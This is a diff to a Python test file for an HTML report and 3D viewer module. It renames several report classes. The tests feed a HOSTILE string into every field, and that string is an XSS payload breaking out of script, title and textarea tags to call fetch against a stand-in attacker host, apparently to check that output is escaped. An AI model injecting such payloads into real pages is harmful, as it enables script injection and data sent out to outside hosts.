@@ -19,9 +19,9 @@ from cfem.export.firmware.embedding import Embedding
 from cfem.export.page.page import page as page_of_robot
 from cfem.export.spec import CSpec
 from cfem.report.chart import chart, panel
-from cfem.report.page import Card, Number, Section, Summary, page
-from cfem.report.tables import Table
-from cfem.report.viewer import Line, Take, Viewer
+from cfem.report.page import Card, Number, ReportSection, Summary, page
+from cfem.report.tables import ReportTable
+from cfem.report.viewer import Polyline, Take, Viewer
 
 HOSTILE = (
     "x</script></title></textarea><script>hits.push(1);fetch('http://attacker.invalid/a')</script>"
@@ -68,7 +68,7 @@ def read(chromium, tmp_path):
 def viewer():
     x = np.array([[[0.0, 0, 0], [1, 0, 0], [0, 1, 0], [0, 0, 1]]] * 3)
     triangles = np.array([[0, 2, 1], [0, 1, 3], [0, 3, 2], [1, 2, 3]])
-    take = Take(HOSTILE, x, range(3), x[:, 3], x[:, 3], [0.0] * 3, (Line(HOSTILE, "--c0", x[:1]),))
+    take = Take(HOSTILE, x, range(3), x[:, 3], x[:, 3], [0.0] * 3, (Polyline(HOSTILE, "--c0", x[:1]),))
     return Viewer(HOSTILE, HOSTILE, triangles, np.zeros(4, int), (take, replace(take, name=f"2 {HOSTILE}")))
 
 
@@ -76,10 +76,10 @@ def test_a_report(read):
     axis = panel("plain", "x")
     for label in (HOSTILE, f"2 {HOSTILE}"):
         axis.plot([0, 1], [0, 1], label=label.replace("$", ""))
-    parts = (Table((HOSTILE, HOSTILE), [(HOSTILE, HOSTILE)]), chart(HOSTILE, HOSTILE, [axis]))
+    parts = (ReportTable((HOSTILE, HOSTILE), [(HOSTILE, HOSTILE)]), chart(HOSTILE, HOSTILE, [axis]))
     summary = Summary(HOSTILE, (HOSTILE,), (Number(HOSTILE, HOSTILE, (HOSTILE,)),))
     card = Card(viewer(), {HOSTILE: HOSTILE})
-    html = page(HOSTILE, summary, viewer(), card, [Section(HOSTILE, HOSTILE, parts)])
+    html = page(HOSTILE, summary, viewer(), card, [ReportSection(HOSTILE, HOSTILE, parts)])
 
     def unfold(tab):
         for one in tab.query_selector_all("summary, nav a, button"):
